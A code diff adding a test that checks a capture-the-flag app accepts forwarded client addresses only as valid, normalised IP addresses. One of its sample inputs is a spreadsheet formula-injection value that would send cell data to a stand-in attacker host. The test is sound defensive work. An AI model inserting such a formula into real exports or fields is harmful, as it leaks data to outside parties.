@@ -316,6 +316,39 @@ describe('client address', () => {
     }
   });
 
+  it('takes a forwarded address only when it is an IP address, and in one spelling (issue 29)', async () => {
+    const t = await buildTestApp('sqlite', { TRUST_PROXY: 'loopback' });
+    try {
+      const admin = await t.login('boss', { admin: true });
+      const alice = await t.login('alice');
+      await openSite(t);
+      const c = await addChallenge(t, { name: 'Forwarded' });
+      const sent = [
+        'x'.repeat(3000),
+        '=HYPERLINK("https://evil.example/?"&A1,"click")',
+        '::ffff:7.7.7.7',
+        '7.7.7.7',
+        '2001:0DB8:0:0::0001',
+        '203.0.113.9, not-an-address',
+      ];
+      for (const forwarded of sent)
+        await alice.post('/api/ctf/submit-flag', { challenge_id: c.id, flag: 'x' }, { 'x-forwarded-for': forwarded });
+      await flushSubmissionLog(t.ctx);
+      const rows = (await admin.get('/api/admin/submissions')).body.rows as Row[];
+      // Newest first; junk falls back to the connection's own address.
+      expect(rows.map((r) => r.address).reverse()).toEqual([
+        '127.0.0.1',
+        '127.0.0.1',
+        '7.7.7.7',
+        '7.7.7.7',
+        '2001:db8::1',
+        '127.0.0.1',
+      ]);
+    } finally {
+      await t.close();
+    }
+  });
+
   it('never writes a submitted text to the server log', async () => {
     const lines: string[] = [];
     const t = await buildTestApp(
